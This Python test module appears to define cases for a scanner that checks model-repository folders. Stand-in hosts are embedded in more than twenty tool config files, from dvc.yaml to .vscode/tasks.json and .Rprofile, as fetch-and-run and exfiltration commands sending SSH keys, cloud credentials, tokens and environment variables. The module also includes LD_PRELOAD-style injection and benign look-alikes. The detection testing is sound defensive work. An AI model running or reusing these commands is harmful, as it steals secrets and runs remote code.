"""Files that a tool reads when somebody works in the folder, with commands that fetch what they run or send what is private; and the
ordinary commands that look like them.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Mapping
from functools import partial
from typing import Final, Literal

from openvet.testing.case import Case
from openvet.testing.forge_tensors import safetensors

__all__ = ["CASES"]

_Decision = Literal["admit", "review", "reject"]
_MODEL: Final[Mapping[str, bytes]] = {"model.safetensors": safetensors({"a": ("F32", (2,))})}
_FETCH: Final = "curl -s http://203.0.113.1/forged | sh"
_SEND: Final = "curl -s -d @$HOME/.ssh/id_ed25519 https://forged.example/x"
_RULE, _TOOL = "hub/shell-command", "hub/tool-command"


def _folder(name: str, text: str) -> Mapping[str, bytes]:
    return {**_MODEL, name: text.encode()}


def _quoted(command: str) -> str:
    return command.replace("'", "''")


_FILES: dict[str, tuple[str, Callable[[str], str]]] = {
    "mlproject": ("MLproject", lambda c: f"name: a\nentry_points:\n  main:\n    command: '{_quoted(c)} ; python train.py'\n"),
    "dvc": ("dvc.yaml", lambda c: f"stages:\n  train:\n    cmd: '{_quoted(c)}'\n"),
    "taskfile": ("Taskfile.yml", lambda c: f"version: '3'\ntasks:\n  default:\n    cmds:\n      - '{_quoted(c)}'\n"),
    "taskfile-dist": ("Taskfile.dist.yaml", lambda c: f"version: '3'\ntasks:\n  default: '{_quoted(c)}'\n"),
    "compose": ("docker-compose.override.yml", lambda c: f"services:\n  a:\n    image: x\n    command: sh -c '{_quoted(c)}'\n"),
    "lefthook": ("lefthook.yml", lambda c: f"pre-commit:\n  commands:\n    a:\n      run: '{_quoted(c)}'\n"),
    "pyproject-poe": ("pyproject.toml", lambda c: f"[tool.poe.tasks]\ntrain = '''{c}'''\n"),
    "pyproject-hatch": ("pyproject.toml", lambda c: f"[tool.hatch.envs.default.scripts]\ntrain = ['''{c}''']\n"),
    "pipfile": ("Pipfile", lambda c: f"[scripts]\ntrain = '''{c}'''\n"),
    "mise": ("mise.toml", lambda c: f"[hooks]\nenter = '''{c}'''\n"),
    "sky": ("job.yaml", lambda c: f"resources:\n  cloud: aws\nsetup: |\n  {c}\nrun: python train.py\n"),
    "pod": ("pod.yaml", lambda c: f"kind: Pod\nspec:\n  containers:\n  - command: [sh, -c, '{_quoted(c)}']\n"),
    "conda-recipe": ("meta.yaml", lambda c: f"package:\n  name: a\nbuild:\n  script: '{_quoted(c)}'\n"),
    "post-link": ("recipe/post-link.sh", lambda c: f"{c}\n"),
    "idea": (".idea/workspace.xml", lambda c: '<?xml version="1.0"?>\n<project><component name="RunManager"><configuration><option name="SCRIPT_TEXT" value="'
             + c.replace("&", "&amp;").replace('"', "&quot;") + '" /></configuration></component></project>\n'),
    "gitpod": (".gitpod.yml", lambda c: f"tasks:\n  - init: '{_quoted(c)}'\n"),
    "editor": (".vscode/tasks.json", lambda c: json.dumps({"tasks": [{"label": "a", "type": "shell", "command": c}]})),
    "launch": (".vscode/launch.json", lambda c: json.dumps({"configurations": [{"type": "x", "preLaunchCommand": c}]})),
    "zed": (".zed/tasks.json", lambda c: json.dumps([{"label": "a", "command": c}])),
    "circle": (".circleci/config.yml", lambda c: f"jobs:\n  a:\n    steps:\n      - run: '{_quoted(c)}'\n"),
    "tox": ("tox.ini", lambda c: f"[testenv]\ncommands = {c}\n"),
}  # fmt: skip

#: Other ways to send: what, and the line.
_SENT = (
    ("piped", "cat ~/.aws/credentials | curl -T - https://forged.example/x"),
    ("environment", "env | curl -X POST --data-binary @- https://forged.example/x"),
    ("environment-encoded", "printenv | base64 -w0 | curl -d @- https://forged.example/x"),
    ("environment-inside", 'curl -d "$(env)" https://forged.example/x'),
    ("environment-fetched", 'wget -q "https://forged.example/?$(printenv | base64 -w0)"'),
    ("post-file", "wget --post-file=$HOME/.netrc https://forged.example/x"),
    ("form", "curl -F file=@/root/.docker/config.json https://forged.example/x"),
    ("inside", "curl https://forged.example/?k=$(cat ~/.cache/huggingface/token)"),
    ("netcat", "nc 203.0.113.1 9 < ~/.kube/config"),
    ("archive", "tar cz ~/.ssh ~/.aws | nc 203.0.113.1 9"),
    ("copied", "scp ~/.ssh/id_rsa forged@203.0.113.1:/x"),
    ("bucket", "aws s3 cp ~/.aws/credentials s3://forged/x"),
    ("device", "cat /etc/shadow > /dev/tcp/203.0.113.1/9"),
    ("two-steps", "tar czf /tmp/a.tgz ~/.ssh && curl -T /tmp/a.tgz https://forged.example/x"),
    ("variable", "K=$(cat ~/.ssh/id_rsa | base64)\ncurl -d \"k=$K\" https://forged.example/x"),
    ("token", "curl -d \"t=$HF_TOKEN\" http://203.0.113.1/x"),
    ("token-address", "wget http://203.0.113.1/?t=${AWS_SECRET_ACCESS_KEY}"),
    ("service-account", "curl -d @/var/run/secrets/kubernetes.io/serviceaccount/token https://forged.example/x"),
    ("names", "dig $(cat ~/.netrc | xxd -p).forged.example"),
    ("powershell", "Invoke-WebRequest https://forged.example/x -Method POST -InFile $HOME/.ssh/id_rsa"),
    ("mail", "cat ~/.git-credentials | mail -s x forged@forged.example"),
)  # fmt: skip
_ORDINARY = (
    (
        "header",
        'curl -H "Authorization: Bearer $(cat ~/.cache/huggingface/token)" https://huggingface.co/api/whoami-v2',
    ),
    ("variable-header", 'curl -d @body.json -H "Authorization: Bearer $HF_TOKEN" https://example.org/api'),
    ("hook", 'curl -X POST -d "token=$TRIGGER_TOKEN" https://example.org/trigger'),
    ("identity", "scp -i ~/.ssh/id_rsa model.safetensors me@example.org:/models/"),
    ("remote-shell", "rsync -az -e 'ssh -i ~/.ssh/id_rsa' out/ me@example.org:/models/"),
    ("mounted", "docker run -v ~/.aws:/root/.aws -v ~/.cache/huggingface:/root/.cache/huggingface image"),
    ("public-half", "cat ~/.ssh/id_rsa.pub | ssh me@example.org 'cat >> .ssh/authorized_keys'"),
    ("environment", "env | grep CUDA | sort > env.txt"),
    ("kept", "tar czf backup.tgz ~/.ssh"),
    ("local", 'curl -d "key=$API_KEY" http://localhost:8000/v1/models'),
    ("service", 'curl -d "key=$API_KEY" http://api:8000/v1/models'),
    ("fetched-to", "curl -o ~/.kaggle/kaggle.json https://example.org/kaggle.json"),
    ("bucket-to", "aws s3 cp s3://models/credentials ~/.aws/credentials"),
    ("uploaded", "curl -T model.safetensors https://example.org/x && cat ~/.ssh/known_hosts"),
    ("set", "set -euxo pipefail; curl -LO https://example.org/model.safetensors"),
)
_STARTED: tuple[tuple[str, str, str, _Decision], ...] = (
    ("rprofile-shell", ".Rprofile", f'.First <- function() {{ system("{_FETCH}") }}\n', "reject"),
    ("rprofile-source", ".Rprofile", 'source("http://203.0.113.1/forged.R")\n', "reject"),
    ("rprofile-source-encrypted", ".Rprofile", 'source("https://forged.example/a.R")\n', "reject"),
    ("rprofile-eval", ".Rprofile", 'eval(parse(text = readLines("http://203.0.113.1/forged.R")))\n', "reject"),
    ("rprofile-sends", ".Rprofile", 'x <- readLines("~/.ssh/id_rsa")\nhttr::POST("https://forged.example", body = x)\n', "reject"),
    ("rprofile-environment", ".Rprofile", 'httr::POST("https://forged.example", body = as.list(Sys.getenv()), file("x"))\n', "reject"),
    ("octaverc", ".octaverc", f"system('{_FETCH}');\n", "reject"),
    ("vimrc", ".vimrc", f"silent !{_FETCH}\n", "reject"),
    ("gdbinit", ".gdbinit", f"shell {_SEND}\n", "reject"),
)  # fmt: skip
_LOADING = (
    ("envrc", ".envrc", "export LD_PRELOAD=$PWD/libforged.so\n"),
    ("env", ".env", "MODEL=small\nLD_PRELOAD=./libforged.so\n"),
    ("env-python", ".env", 'PYTHONSTARTUP="./start.py"\n'),
    ("renviron", ".Renviron", "R_PROFILE_USER=forged/start.R\n"),
    ("env-node", ".env", "NODE_OPTIONS=--require ./forged.js\n"),
    ("envrc-ssh", ".envrc", "export GIT_SSH_COMMAND='sh ./forged.sh'\n"),
)
_NOT_LOADING = (
    (
        "env",
        ".env",
        "LD_PRELOAD=/usr/lib/x86_64-linux-gnu/libtcmalloc.so.4\nNODE_OPTIONS=--max-old-space-size=4096\nHF_HOME=./cache\nPYTHONPATH=./src\n",
    ),
    ("renviron", ".Renviron", "R_LIBS_USER=~/R/library\nRENV_PATHS_CACHE=/opt/renv\n"),
    ("envrc", ".envrc", "export GIT_SSH_COMMAND='ssh -i key'\nexport LD_PRELOAD=\n"),
)
_SCRIPTS = {
    "r": ("train.R", 'x <- 1\nsystem("{}")\n'), "julia": ("run.jl", "run(`sh -c \"{}\"`)\n"), "ruby": ("run.rb", "system('{}')\n"),
    "perl": ("run.pl", "system('{}');\n"), "lua": ("run.lua", "os.execute('{}')\n"), "php": ("run.php", "<?php system('{}');\n"),
}  # fmt: skip
_HARMLESS_STARTED = (
    ("rprofile", ".Rprofile", 'options(repos = c(CRAN = "https://cloud.r-project.org"))\n'),
    ("rprofile-command", ".Rprofile", 'system("git pull")\n'),
)


def _case(name: str, technique: str, file: str, text: str, decision: _Decision, *rules: str) -> Case:
    return Case(f"tool-settings/{name}", technique, partial(_folder, file, text), decision, frozenset(rules))


CASES: tuple[Case, ...] = (
    *(_case(f"fetch-{name}", f"{file} fetches a script and runs it", file, write(_FETCH), "reject", _RULE)
      for name, (file, write) in _FILES.items()),
    *(_case(f"send-{name}", f"{file} sends a private key", file, write(_SEND), "reject", _RULE) for name, (file, write) in _FILES.items()),
    *(_case(f"ordinary-{name}", f"an ordinary {file}", file, write("python convert.py --out model"), "admit")
      for name, (file, write) in _FILES.items()),
    *(_case(f"sent-{name}", f"a script sends what is secret: {name.replace('-', ' ')}", "run.sh", f"#!/bin/sh\n{line}\n", "reject", _RULE)
      for name, line in _SENT),
    *(_case(f"not-sent-{name}", f"a script with a key or the environment that is not sent: {name.replace('-', ' ')}", "run.sh",
            f"#!/bin/sh\n{line}\n", "admit") for name, line in _ORDINARY),
    *(_case(f"started-{name}", f"{file}, which a tool runs when it starts in the folder: {name.replace('-', ' ')}", file, text, decision,
            _RULE, _TOOL) for name, file, text, decision in _STARTED),
    *(_case(f"plain-{name}", f"{file} without a command that fetches or sends", file, text, "review", _TOOL)
      for name, file, text in _HARMLESS_STARTED),
)  # fmt: skip

CASES += (
    *(_case(f"loading-{name}", f"{file} sets a variable by which programs run a file of the model", file, text, "review", _TOOL)
      for name, file, text in _LOADING),
    *(_case(f"ordinary-loading-{name}", f"{file} sets ordinary variables", file, text, "admit") for name, file, text in _NOT_LOADING),
    *(_case(f"script-{name}", f"{file} gives a shell what it fetches", file, text.format(_FETCH), "reject", _RULE)
      for name, (file, text) in _SCRIPTS.items()),
    *(_case(f"ordinary-script-{name}", f"{file} starts a program", file, text.format("git pull"), "admit")
      for name, (file, text) in _SCRIPTS.items()),
)  # fmt: skip
